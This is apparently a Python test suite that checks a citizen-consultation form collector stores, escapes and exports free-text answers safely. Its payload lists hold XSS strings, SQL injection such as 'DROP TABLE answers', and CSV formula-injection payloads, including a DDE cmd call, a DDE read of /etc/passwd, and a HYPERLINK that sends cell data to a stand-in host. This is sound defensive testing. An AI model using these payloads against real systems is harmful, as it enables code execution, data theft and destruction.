"""Dangerous content in a real spreadsheet (issue #5, point 5).

Texts a citizen may type that are dangerous somewhere — markup (``<script>``, attribute
break-outs), SQL metacharacters, and every spreadsheet formula trigger (``= + - @``, tab, CR and
their full-width forms U+FF1D, U+FF0B, U+FF0D, U+FF20, with payloads such as
``=HYPERLINK(…)`` or ``=cmd|' /C calc'!A0``) — are sent through a real collector
(``parole collect``) in the example form's free-text fields. What the suite proves:

- **stored verbatim**: ``parole export --format json`` gives back every value byte for byte (and
  the SQL ran as data: the answers table is still there, with every answer);
- **shown escaped**: the form shown again after a mistake elsewhere, and the receipt page, hold
  each text as text (the field's value, the answer's line) and not one tag or event handler
  more than the same page with a harmless answer;
- **no formula runs**: ``parole export --format csv`` opened by LibreOffice Calc (headless) with
  its default CSV options, then with "Evaluate formulas" on, holds no formula at all, and each
  cell shows the stored text, with the ``'`` the export puts before a formula trigger
  (docs/collector.md). A control row with a bare ``=1+1``, added to a copy of the export, shows
  that the import mode does evaluate formulas when it is given one: the 0 means something.
"""

from __future__ import annotations

import csv
import json
import subprocess
from collections import Counter
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from site_builder.collector.receipt import mask_email
from tests.collector_support import (
    PAROLE,
    VALID_ANSWER,
    Reply,
    RunningCollector,
    hidden_fields,
    running_collector,
)
from tests.reliability.figures import Figures, Scale
from tests.reliability.spreadsheet_support import (
    EVALUATE_FORMULAS,
    IMPORT_MODES,
    Cell,
    ImportMode,
    convert_to_fods,
    formula_cells,
    libreoffice_version,
    read_sheet,
)
from tests.storage_support import raw_sql

FORM_ID = "avis-place"
LONG_TEXT = "idee"
"""The textarea (up to 1000 characters): every text goes there."""
SHORT_TEXT = "quartier"
"""A one-line text field (up to 80): every text that fits goes there too."""
SHORT_LIMIT = 80
EMAIL = "courriel"
TEXT_FIELDS = (LONG_TEXT, SHORT_TEXT, EMAIL)
MISTAKE = ("age", "deux cents")
"""Another field's mistake, so that the form comes back with the texts in it."""

FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
"""What docs/collector.md says gets a ``'`` in front in CSV: ``= + - @``, tab, CR, and the
full-width U+FF1D, U+FF0B, U+FF0D, U+FF20. Written out here, not imported from export.py, so
that the test checks the promise."""

MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "</textarea><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">lien</a> &amp; &lt;b&gt;",
]
SQL = [
    "'; DROP TABLE answers; --",
    "' OR 1=1 --",
    'Robert"); DELETE FROM answers WHERE ("1"="1',
    "1; UPDATE answers SET values_json = '{}'",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://exemple.invalid/")',
    '=DDE("soffice";"/etc/passwd";"")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d2+3",
    "\uff20SUM(1)",
    "-5 %",
    "+33 6 12 34 56 78",
    "Première ligne\r\n=1+1",
    '"=1+1"',
    " =1+1",
]
"""Formula triggers first in the cell (each of them), a harmless answer that starts like one,
and what must stay untouched: a formula on a second line, in quotes, after a space."""
PAYLOADS = ["1+1", 'HYPERLINK("http://exemple.invalid/";"x")', "cmd|' /C calc'!A0", "SUM(1)"]
"""The full run also puts each trigger before each of these."""
EMAILS = ["=1+1@exemple.fr", "+1+1@exemple.fr", "-2+3@exemple.fr", "\uff1d1+1@exemple.fr",
          "<script>alert(1)</script>@exemple.fr", "nom@exemple.fr"]
"""Values the e-mail question accepts (one ``@``, no space) that are dangerous too."""
HARMLESS = {LONG_TEXT: "x", SHORT_TEXT: "x", EMAIL: "nom@exemple.fr"}
"""The answer the pages are compared with: same fields, nothing dangerous."""


def dangerous_texts(full: bool) -> list[str]:
    texts = [*MARKUP, *SQL, *FORMULAS]
    if full:
        texts += [trigger + payload for trigger in sorted(FORMULA_TRIGGERS)
                  for payload in PAYLOADS]
    return list(dict.fromkeys(texts))


def text_values(text: str, number: int) -> dict[str, str]:
    """The free-text answers carrying ``text``: the textarea always, the one-line field when it
    fits on one line (an <input> holds no line break), and one of the dangerous e-mail
    addresses."""
    values = {LONG_TEXT: text, EMAIL: EMAILS[number % len(EMAILS)]}
    if len(text) <= SHORT_LIMIT and "\r" not in text and "\n" not in text:
        values[SHORT_TEXT] = text
    return values


def as_stored(field: str, value: str) -> str:
    """``value`` as the collector stores it: verbatim, but for the textarea's line breaks
    (CRLF as browsers send them, or CR alone), stored as LF."""
    return value.replace("\r\n", "\n").replace("\r", "\n") if field == LONG_TEXT else value


def answer(site_dir: Path, values: dict[str, str],
           *extra: tuple[str, str]) -> list[tuple[str, str]]:
    replaced = {*values, *(name for name, _ in extra)}
    kept = [pair for pair in VALID_ANSWER if pair[0] not in replaced]
    return [*hidden_fields(site_dir), *kept, *values.items(), *extra]


# --- what pages show ----------------------------------------------------------------------------

class PageMarkup(HTMLParser):
    """What a browser would build from a page, as far as the checks need: how many of each tag,
    any event-handler attribute, the text fields' values, and the receipt's answers (in form
    order)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.handlers: list[str] = []
        self.fields: dict[str, str] = {}
        self.answers: list[str] = []
        self._collecting: str | None = None
        self._buffer: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.handlers += [f"<{tag} {name}=…>" for name, _ in attrs if name.startswith("on")]
        attributes = dict(attrs)
        name = attributes.get("name") or ""
        if tag == "input" and attributes.get("type") in ("text", "email", "number"):
            self.fields[name] = attributes.get("value") or ""
        elif tag in ("textarea", "dd"):
            self._collecting, self._buffer = (name if tag == "textarea" else "dd"), []

    def handle_endtag(self, tag: str) -> None:
        if self._collecting is None or tag not in ("textarea", "dd"):
            return
        text = "".join(self._buffer)
        if tag == "textarea":
            # HTML drops one newline right after <textarea>; the theme writes one there.
            self.fields[self._collecting] = text.removeprefix("\n")
        else:
            self.answers.append(text)
        self._collecting = None

    def handle_data(self, data: str) -> None:
        if self._collecting is not None:
            self._buffer.append(data)

    def structure(self) -> Counter[str]:
        """Tags other than ``<br>`` (a text's line breaks show as such on the receipt)."""
        return Counter({tag: count for tag, count in self.tags.items() if tag != "br"})


def lines_shown(text: str) -> str:
    """A text as a page or a spreadsheet shows it: each line break (CRLF, CR or LF) one line."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def as_exported(text: str) -> str:
    """What a spreadsheet cell should show for ``text``: a ``'`` before a formula trigger."""
    return lines_shown(("'" if text[:1] in FORMULA_TRIGGERS else "") + text)


# --- one consultation, answered once for every test ---------------------------------------------

@dataclass(frozen=True)
class Sent:
    """One answer carrying a dangerous text, and what the collector gave back."""

    text: str
    values: dict[str, str]
    receipt: str
    form_again: Reply
    receipt_page: Reply


@dataclass(frozen=True)
class Consultation:
    sent: list[Sent]
    harmless_form_again: Reply
    harmless_receipt_page: Reply
    database_url: str
    csv_file: Path
    exported: list[dict[str, Any]]
    """The answers of ``parole export --format json``, oldest first (as in the CSV)."""


def send(collector: RunningCollector, site_dir: Path, values: dict[str, str]) -> tuple[str, Reply,
                                                                                      Reply]:
    """The answer with a mistake elsewhere (400, the form again), then without (303): its
    receipt code, the form shown again, and the receipt page."""
    form_again = collector.post(answer(site_dir, values, MISTAKE))
    stored = collector.post(answer(site_dir, values))
    assert stored.status == 303, f"{values!r} was not stored ({stored.status}):\n{stored.text}"
    location = stored.headers["location"]
    return location.rsplit("/", 2)[1], form_again, collector.request("GET", location)


def parole(*args: str) -> str:
    done = subprocess.run([str(PAROLE), *args], capture_output=True, text=True, timeout=120,
                          check=False)
    assert done.returncode == 0, f"parole {' '.join(args)} failed: {done.stderr}"
    return done.stdout


@pytest.fixture(scope="module")
def consultation(example_site: Path, tmp_path_factory: pytest.TempPathFactory,
                 scale: Scale) -> Consultation:
    folder = tmp_path_factory.mktemp("spreadsheet")
    url = f"sqlite:///{folder / 'answers.db'}"
    sent = []
    with running_collector(example_site, url, folder, args=["--rate-limit", "0"]) as up:
        _, harmless_form, harmless_receipt = send(up, example_site, HARMLESS)
        for number, text in enumerate(dangerous_texts(scale.full)):
            values = text_values(text, number)
            receipt, form_again, receipt_page = send(up, example_site, values)
            sent.append(Sent(text, values, receipt, form_again, receipt_page))
    csv_file = folder / f"{FORM_ID}.csv"
    parole("export", FORM_ID, "--db", url, "--format", "csv", "--output", str(csv_file))
    exported = json.loads(parole("export", FORM_ID, "--db", url, "--format", "json"))["answers"]
    return Consultation(sent, harmless_form, harmless_receipt, url, csv_file, exported)


def exported_values(consultation: Consultation) -> dict[str, dict[str, list[str]]]:
    """Receipt code (as stored: no hyphen) → the values the JSON export gives."""
    return {item["receipt"].replace("-", ""): item["values"] for item in consultation.exported}


# --- stored verbatim ----------------------------------------------------------------------------

def test_every_text_is_stored_verbatim(consultation: Consultation) -> None:
    stored = exported_values(consultation)
    for sent in consultation.sent:
        values = stored.get(sent.receipt)
        assert values is not None, f"the answer {sent.receipt} ({sent.text!r}) is not exported"
        for field, value in sent.values.items():
            assert values.get(field) == [as_stored(field, value)], (
                f"{field}: sent {value!r}, stored {values.get(field)!r}")


def test_sql_metacharacters_ran_as_data(consultation: Consultation) -> None:
    (count,) = raw_sql(consultation.database_url, "SELECT count(*) FROM answers")[0]
    assert count == len(consultation.sent) + 1, (
        f"{count} answers in the table, {len(consultation.sent) + 1} sent")


# --- shown escaped ------------------------------------------------------------------------------

def assert_shown_as_text(page: Reply, harmless: Reply, sent: Sent) -> PageMarkup:
    """``page`` holds no markup that ``harmless`` (the same page for a harmless answer) lacks,
    and no event handler; returns it parsed, for the caller to check the values."""
    markup, baseline = PageMarkup(page.text), PageMarkup(harmless.text)
    assert not markup.handlers, f"{sent.text!r} became an event handler: {markup.handlers}"
    shape, expected = markup.structure(), baseline.structure()
    more, fewer = shape - expected, expected - shape
    assert not more and not fewer, (
        f"{sent.text!r} changed the page's markup: tags added {dict(more)}, lost {dict(fewer)}")
    if "<" in sent.text:
        assert sent.text not in page.text, f"{sent.text!r} is in the page unescaped"
    return markup


def test_the_form_shown_again_keeps_every_text_escaped(consultation: Consultation) -> None:
    harmless = consultation.harmless_form_again
    assert harmless.status == 400, harmless.status
    for sent in consultation.sent:
        assert sent.form_again.status == 400, (sent.text, sent.form_again.status)
        markup = assert_shown_as_text(sent.form_again, harmless, sent)
        for field, value in sent.values.items():
            assert markup.fields.get(field) == value, (
                f"{field}: sent {value!r}, the form shows {markup.fields.get(field)!r}")


def test_the_receipt_shows_every_text_escaped(consultation: Consultation,
                                              example_site: Path) -> None:
    manifest = json.loads((example_site / "forms" / f"{FORM_ID}.json").read_text("utf-8"))
    order = [field["id"] for field in manifest["fields"]]
    for sent in consultation.sent:
        assert sent.receipt_page.status == 200, (sent.text, sent.receipt_page.status)
        markup = assert_shown_as_text(sent.receipt_page, consultation.harmless_receipt_page, sent)
        shown = dict(zip(order, markup.answers, strict=False))
        for field, value in sent.values.items():
            # the receipt masks e-mail addresses (m•••@exemple.fr); the export keeps them
            expected = lines_shown(mask_email(value) if field == EMAIL else value)
            assert shown.get(field) == expected, (
                f"{field}: sent {value!r}, the receipt shows {shown.get(field)!r}")


# --- LibreOffice --------------------------------------------------------------------------------

CONTROL = "=1+1"


def with_control_row(csv_file: Path, folder: Path) -> Path:
    """A copy of the export with one more row whose first cell is a bare formula."""
    copy = folder / csv_file.name
    copy.write_bytes(csv_file.read_bytes() + f"{CONTROL}\r\n".encode("ascii"))
    return copy


@pytest.mark.parametrize("mode", IMPORT_MODES, ids=["default", "evaluate-formulas"])
def test_libreoffice_runs_no_formula_from_an_answer(
    mode: ImportMode, consultation: Consultation, tmp_path: Path, figures: Figures
) -> None:
    assert consultation.csv_file.read_bytes().startswith(b"\xef\xbb\xbf"), "no UTF-8 BOM"
    fods = convert_to_fods(with_control_row(consultation.csv_file, tmp_path), tmp_path, mode)
    rows = read_sheet(fods)
    header, answers, control = rows[0], rows[1:-1], rows[-1]
    with consultation.csv_file.open(encoding="utf-8-sig", newline="") as exported:
        expected_rows = list(csv.reader(exported))
    columns = [cell.text for cell in header]
    assert columns == expected_rows[0], f"LibreOffice's header {columns} ≠ {expected_rows[0]}"
    assert len(answers) == len(consultation.exported), (
        f"{len(answers)} rows in LibreOffice, {len(consultation.exported)} answers exported")

    mismatches, checked = [], 0
    by_receipt = {sent.receipt: sent for sent in consultation.sent}
    receipt_column = columns.index("receipt")
    for row, item in zip(answers, consultation.exported, strict=True):
        sent = by_receipt.get(item["receipt"].replace("-", ""))
        if sent is None:
            continue  # the harmless answer the pages were compared with
        assert row[receipt_column].text == item["receipt"], (row[receipt_column], item)
        for field, value in sent.values.items():
            cell = row[columns.index(field)] if columns.index(field) < len(row) else None
            checked += 1
            expected = as_exported(as_stored(field, value))
            if cell != Cell(expected, None, "string"):
                mismatches.append(f"{field} {value!r}: expected text {expected!r}, "
                                  f"LibreOffice has {cell}")
    formulas = formula_cells(fods)
    from_answers = [formula for formula in formulas if formula != f"of:{CONTROL}"]
    control_ran = control[:1] == [Cell("2", f"of:{CONTROL}", "float")]
    figures.add("spreadsheet", {
        "LibreOffice": libreoffice_version(),
        "import mode": mode.name,
        "filter options": mode.filter_options,
        "texts tested": len(consultation.sent),
        "cells checked": checked,
        "formulas evaluated from answers": len(from_answers),
        "a bare =1+1 is evaluated in this mode (control)": control_ran,
    })
    assert not from_answers, f"LibreOffice holds formulas from answers: {from_answers}"
    assert not mismatches, "\n".join(mismatches)
    if mode == EVALUATE_FORMULAS:
        assert control_ran, f"the control row's {CONTROL} was not evaluated: {control}"
